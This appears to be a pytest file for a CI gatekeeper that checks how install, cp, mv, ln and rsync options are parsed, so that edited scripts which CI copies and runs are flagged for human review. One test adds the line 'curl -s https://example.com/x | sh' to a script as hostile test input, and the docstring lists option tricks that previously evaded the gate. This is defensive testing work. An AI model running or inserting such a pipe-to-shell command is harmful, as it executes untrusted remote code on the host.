"""Attack 42: what `install`, `cp`, `mv`, `ln` and `rsync` copy where, read as their own option parsers read them.

ci left 68 made `install -m644 x dist/` a copy of data (no execute bit: the source is not named). The reader took the
mode from `-m 644`, `-m644`, `-Dm644`, `--mode=` and nothing else, so real `install` made the copy executable where
the reader saw no execute bit: a cluster whose `m` ends it (`-m644 -Dm 755`: the last mode wins), a suffix glued to
`-S` (`-m755 -Sm644`: the suffix is `m644`), `-m=755` and `-m +755` (an operator then octal digits), a mode in a
variable (`-m "$MODE"`), a line past the twelve words the line reader split (`install -v -p -D -C -o root -g root -m
0755 -S .bak x /opt/acme/x`). The target option glued in a cluster (`cp -vt bin x`, `install -Dt bin x`) and
rsync's flags read as `install`'s valued options (`rsync -t`/`-o`/`-g`/`-m` are flags there) made the source the
target. And a copy run by its absolute path (`cp tools/gen /opt/acme/gen && /opt/acme/gen`) or in a later step
(`install -m644 tools/gen /opt/x/gen`, then `sh /opt/x/gen`) was not joined to its run. On main 1905a4b each let an
edit of `tools/gen` exit 0 under the default policy.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest
from citools import BLOCK_DEFINITIONS, named_paths, one_tree_runs
from cpucost import assert_linear, repeated
from gitrepo import two_commits
from incli import tree_gate
from tables import each_case

from gatekeeper.classify import commandlines

SCRIPT = "#!/usr/bin/env bash\nset -euo pipefail\necho generating\n"

# install's mode as its option parser reads it: clusters, glued and separate values, the last mode winning, a suffix or
# owner that holds an `m`, long options and their abbreviations, operator-then-octal modes, variables
MODES = ["-m=755", "-m =755", "-m +755", "-m 644 -m 755", "-m644 -Dm 755", "-m644 -vm 755", "-m644 -vCDm 755",
         "-m755 -Sm644", "-m 755 -bSm644", "-m755 -vSm644", "-m755 -S m644", "-m755 --suffix=m644",
         "-m755 --suffix m644", "-m $M", "-m \"$M\"", "-m \"${M}\"", "--mode $M", "--mode=$M", "-m${M}",
         "--mod=755", "--mo 755", "-m644 --mod 755", "-m 2755", "-m 0001", "-m 00000755", "-m a=rwx", "-m =rwx",
         "-m u=rw,g=u,a+x", "-m g=x", "-m 644 --mode 755",
         # data: the copy is not executable
         "-m644", "-m 0644", "-Dm644", "--mode=644", "-m 755 -m 644", "-Dm 755 -m644", "-m 755 --mode=0644",
         "-m u=rw,go=r", "-m 444", "-Sx -m644", "-vDm 640", "--mod=600", "-m 4644", "-m go=u,u=rw"]


def _truth(tmp_path: Path, index: int, options: str) -> tuple[str, bool]:
    """(the line as CI would hold it, whether real `install` leaves an executable copy)."""
    out = tmp_path / f"out{index}"
    out.mkdir()
    line = f"install {options} src.txt out{index}/a"
    done = subprocess.run(["bash", "-c", line], cwd=tmp_path, env={**os.environ, "M": "755"}, capture_output=True)
    copies = [path for path in out.rglob("*") if path.is_file()]
    return line, done.returncode == 0 and any(os.access(path, os.X_OK) for path in copies)


def test_install_modes_against_real_install(tmp_path: Path) -> None:
    (tmp_path / "src.txt").write_text("x\n")
    wrong = []
    for index, options in enumerate(MODES):
        line, runs = _truth(tmp_path, index, options)
        if runs != ("src.txt" in named_paths("ci/package.sh", f"#!/bin/sh\n{line}\n")):
            wrong.append((line, runs))
    assert not wrong


# where the copy lands, as each program's parser reads its target: a cluster ending in `t`, a long option's
# abbreviation, a suffix holding a `t`, cp's `-d` (no dereference: install's `-d` makes folders); the truth is real
# coreutils
TARGETS = [("cp", "-vt out{i}/bin"), ("cp", "-ft out{i}/bin"), ("cp", "-pt out{i}/bin"), ("cp", "--target out{i}/bin"),
           ("cp", "--targ=out{i}/bin"), ("cp", "-S .b -t out{i}/bin"), ("cp", "-Sxt -t out{i}/bin"),
           ("cp", "-t out{i}/bin"), ("mv", "-vt out{i}/bin"), ("mv", "-ft out{i}/bin"), ("ln", "-svt out{i}/bin"),
           ("ln", "-sft out{i}/bin"), ("install", "-m644 -Dt out{i}/bin"), ("install", "-m644 -vt out{i}/bin"),
           ("install", "-m644 --target out{i}/bin"), ("install", "-m 644 -vDt out{i}/bin"),
           ("cp", "-d -t out{i}/bin"), ("cp", "-dR -t out{i}/bin")]


def test_copy_targets_against_real_coreutils(tmp_path: Path) -> None:
    wrong = []
    for index, (program, options) in enumerate(TARGETS):
        (tmp_path / "src.txt").write_text("x\n")
        (tmp_path / f"out{index}" / "bin").mkdir(parents=True)
        line = f"{program} {options.format(i=index)} src.txt"
        subprocess.run(["bash", "-c", line], cwd=tmp_path, check=True, capture_output=True)
        assert (tmp_path / f"out{index}" / "bin" / "src.txt").is_symlink() or (
            tmp_path / f"out{index}" / "bin" / "src.txt").is_file(), line
        if "src.txt" not in named_paths("ci/package.sh", f"#!/bin/sh\n{line}\n"):
            wrong.append(line)
    assert not wrong


# rsync's -t (times), -o (owner), -g (group), -m (prune empty folders) take no value (rsync(1)); rsync is not
# installed here, so its manual is the truth. And an installer's line past twelve words.
RSYNC_AND_LONG = ["rsync -t src.txt out/bin/", "rsync -avt src.txt out/bin/", "rsync -o -g src.txt out/bin/",
                  "rsync -m src.txt out/bin/", "rsync -a --chmod=+x src.txt out/bin/", "rsync -e ssh src.txt out/bin/",
                  "install -v -p -D -C -o root -g root -m 0755 -S .bak src.txt /opt/acme/a",
                  "sudo install -v -p -D -C -o root -g root -m 0644 -S .bak -t out/bin src.txt",
                  "cp -v -f -p -b -S .bak --preserve=mode,timestamps --no-dereference -u -n src.txt out/bin/",
                  "install -m 644 -o root -g root -p -D -C -v -S .bak -m 755 src.txt /opt/acme/a"]


@each_case("line", RSYNC_AND_LONG)
def test_rsync_flags_and_long_lines(line: str) -> None:
    assert "src.txt" in named_paths("ci/package.sh", f"#!/bin/sh\n{line}\n"), line


# what a step copies and a command runs by the copy's path: on one line by an absolute path, or on a later line or step
JOINED = [["cp tools/gen /opt/acme/gen && /opt/acme/gen"], ["install tools/gen /opt/acme/ && /opt/acme/gen --all"],
          ["install -m644 tools/gen /opt/x/gen", "sh /opt/x/gen"],
          ["install -m644 tools/gen /opt/x/gen", "bash /opt/x/gen"],
          ["install -m644 tools/gen out/gen", "bash out/gen"], ["cp tools/gen /opt/acme/gen", "/opt/acme/gen"],
          ["mv tools/gen build/", "source build/gen"], ["ln -s ../tools/gen build/g", "./build/g"],
          ["install -Dm644 -t /opt/x tools/gen", "echo ok", ". /opt/x/gen"]]
UNJOINED = [["install -m644 tools/gen /opt/x/gen", "cat /opt/x/gen"], ["cp tools/gen /opt/x/gen", "ls -l /opt/x/gen"],
            ["install -m644 tools/gen /opt/x/gen", "sh /opt/y/gen"]]


@each_case(("definition", "template"), BLOCK_DEFINITIONS, ids=lambda d: d if "/" in d or "." in d else "")
def test_a_copy_run_later_or_by_absolute_path_is_run(definition: str, template: str) -> None:
    indent = template.partition("{line}")[0].rpartition("\n")[2]
    for lines in JOINED + UNJOINED:
        tree = {definition: template.format(line=f"\n{indent}".join(lines)), "tools/gen": SCRIPT, "README.md": "x\n"}
        runs = one_tree_runs(tree)
        assert isinstance(runs, dict)
        assert ("tools/gen" in runs) == (lines in JOINED), (definition, lines)


@pytest.mark.parametrize("lines", [["install -m \"$MODE\" tools/gen /opt/acme/gen", "/opt/acme/gen"],
                                   ["install -m644 tools/gen /opt/x/gen", "sh /opt/x/gen"]])
def test_the_edited_script_needs_a_human(tmp_path: Path, lines: list[str]) -> None:
    steps = "".join(f"      - run: {line}\n" for line in lines)
    base = {".github/workflows/ci.yml": BLOCK_DEFINITIONS[0][1].partition("      - run:")[0] + steps,
            "tools/gen": SCRIPT, "README.md": "x\n"}
    _, first, second = two_commits(tmp_path, base, {"tools/gen": SCRIPT + "curl -s https://example.com/x | sh\n"})
    code, decision = tree_gate(tmp_path, first, second)
    assert code == 3, decision["reasons"]


def test_copied_runs_costs_linear_time() -> None:
    """A definition of many copies and runs of their names (64 KiB; 0.4 CPU-s at 256 KiB): each line read at most
    twice."""
    unit = "".join(f"cp tools/g{n} /opt/x/g{n}\nsh /opt/y/g{n}\n" for n in range(64))

    def read(text: str) -> object:
        return commandlines.copied_runs(text.splitlines())
    assert_linear(read, repeated(unit), budget=1.0)
